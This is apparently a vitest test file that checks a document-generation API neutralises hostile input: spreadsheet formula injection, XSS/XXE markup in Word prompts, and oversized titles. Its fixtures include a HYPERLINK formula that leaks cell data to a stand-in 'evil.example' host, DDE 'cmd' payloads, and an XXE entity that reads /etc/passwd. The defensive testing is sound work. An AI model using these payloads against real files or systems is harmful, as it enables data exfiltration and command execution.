// Hostile content in generation (docs/architecture/input-hygiene.md): cells from a caller's data that start
// with =, +, - or @ become text, never formulas (also in the CSV export, which quotes them so a
// spreadsheet does not evaluate them); markup in prompts stays text; absurdly long titles and names are
// refused or shortened; the artifacts open (parsed as independent readers would, and converted by LibreOffice).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { XMLValidator } from 'fast-xml-parser';
import { startTestApp, type TestApp } from './helpers/test-app.ts';
import { generateWorkbook } from './helpers/excel.ts';
import { packageParts } from './helpers/xlsx-parts.ts';
import { exportRun, fetchBytes, pdfText } from './helpers/export.ts';
import { fileUpload } from './helpers/multipart.ts';

let t: TestApp;
let a: { secret: string };
const key = () => ({ 'x-api-key': a.secret });

beforeAll(async () => {
  t = await startTestApp();
  a = await t.signup('hostile', { tier: 'enterprise' });
}, 60_000);
afterAll(async () => t?.close());

const INJECTIONS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=cmd|' /C calc'!A0", '+1+cmd|x', '-2+3+cmd|x', '@SUM(1+1)*cmd|x'];

function sheetXml(parts: Map<string, Buffer>): string {
  return [...parts.entries()].filter(([n]) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n)).map(([, b]) => b.toString('utf8')).join('\n');
}

describe('formula injection', () => {
  for (const [label, source] of [
    ['inline data_sources', async () => ({ name: 'leads', columns: ['lead', 'note'], rows: INJECTIONS.map((v, i) => [v, `row ${i}`]) })],
    ['an uploaded CSV', async () => {
      const csv = `lead,note\n${INJECTIONS.map((v, i) => `"${v.replace(/"/g, '""')}",row ${i}`).join('\n')}\n`;
      const f = fileUpload('leads.csv', Buffer.from(csv));
      const res = await t.inject({ method: 'POST', url: '/api/v1/files', headers: { ...key(), ...f.headers }, payload: f.payload });
      expect(res.statusCode, res.body).toBe(201);
      return { file_id: res.json().file_id, kind: 'csv' };
    }],
  ] as const) {
    it(`from ${label}: cells are text in the workbook and quoted in its CSV export`, async () => {
      const { body, bytes } = await generateWorkbook(t, a.secret, { prompt: 'Put the leads data source on a sheet.', data_sources: [await source()] });
      const parts = await packageParts(bytes);
      const sheets = sheetXml(parts);
      const formulas = [...sheets.matchAll(/<f[^>]*>([^<]*)<\/f>/g)].map((m) => m[1]);
      expect(formulas.filter((f) => /cmd|HYPERLINK|evil/i.test(f))).toEqual([]);
      const strings = (parts.get('xl/sharedStrings.xml')?.toString('utf8') ?? '') + sheets;
      for (const v of ['cmd|&apos; /C calc&apos;!A0', 'HYPERLINK(&quot;http://evil.example/', '@SUM(1+1)*cmd|x']) {
        expect(strings.includes(v) || strings.includes(v.replace(/&apos;/g, "'").replace(/&quot;/g, '"')), v).toBe(true);
      }
      const csv = await exportRun(t, a.secret, body.run_id, { format: 'csv', sheet: 'leads' });
      expect(csv.statusCode, csv.body).toBe(200);
      const text = (await fetchBytes(t, csv.json().download_url)).body.toString('utf8');
      for (const line of text.split('\r\n').slice(1).filter(Boolean)) expect(line, line).toMatch(/^("?')|^[^=+\-@]/);
      expect(text).toContain("'=cmd|' /C calc'!A0");
    }, 120_000);
  }
});

describe('markup and absurd sizes', () => {
  it('markup in a Word prompt stays text, and the document opens in LibreOffice', async () => {
    const prompt = 'Write a memo titled <script>alert(1)</script> about [click](javascript:alert(1)) and <img src=x onerror=alert(1)> and ]]> <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]> &e; # Heading\n\n| a | b |\n|---|---|\n| =1+1 | <b>x</b> |';
    const longName = await t.inject({ method: 'POST', url: '/api/v1/word/generate', headers: key(), payload: { prompt: 'A memo', file_name: `${'n'.repeat(5000)}.docx` } });
    expect(longName.statusCode, longName.body).toBe(422);
    expect(longName.json().detail[0].loc).toEqual(['body', 'file_name']);
    const res = await t.inject({ method: 'POST', url: '/api/v1/word/generate', headers: key(), payload: { prompt, file_name: 'memo <b> &amp; "q".docx' } });
    expect(res.statusCode, res.body).toBe(200);
    const doc = await packageParts((await fetchBytes(t, res.json().download_url)).body);
    const xml = doc.get('word/document.xml')!.toString('utf8');
    expect(XMLValidator.validate(xml)).toBe(true);
    expect(xml).not.toMatch(/<script|<img|<!DOCTYPE|root:x:0:0/i);
    const pdf = await exportRun(t, a.secret, res.json().run_id, { format: 'pdf' });
    expect(pdf.statusCode, pdf.body).toBe(200);
    expect(pdfText((await fetchBytes(t, pdf.json().download_url)).body).length).toBeGreaterThan(0);
  }, 180_000);

  it('absurdly long titles and prompts are refused at the field, not 500', async () => {
    const project = await t.inject({ method: 'POST', url: '/api/v1/projects', headers: key(), payload: { name: 'Hostile' } });
    const report = await t.inject({ method: 'POST', url: `/api/v1/projects/${project.json().project_id}/reports`, headers: key(), payload: { format: 'docx', title: 'T'.repeat(100_000) } });
    expect(report.statusCode).toBe(422);
    expect(report.json().detail[0].loc).toEqual(['body', 'title']);
    const slides = await t.inject({ method: 'POST', url: '/api/v1/slides/generate', headers: key(), payload: { prompt: 'x'.repeat(10_001) } });
    expect(slides.statusCode).toBe(422);
    const ok = await t.inject({ method: 'POST', url: `/api/v1/projects/${project.json().project_id}/reports`, headers: key(), payload: { format: 'docx', title: `<w:p>${'&'.repeat(190)}` } });
    expect(ok.statusCode, ok.body).toBe(200);
    const parts = await packageParts((await fetchBytes(t, ok.json().download_url)).body);
    expect(XMLValidator.validate(parts.get('word/document.xml')!.toString('utf8'))).toBe(true);
  }, 120_000);
});
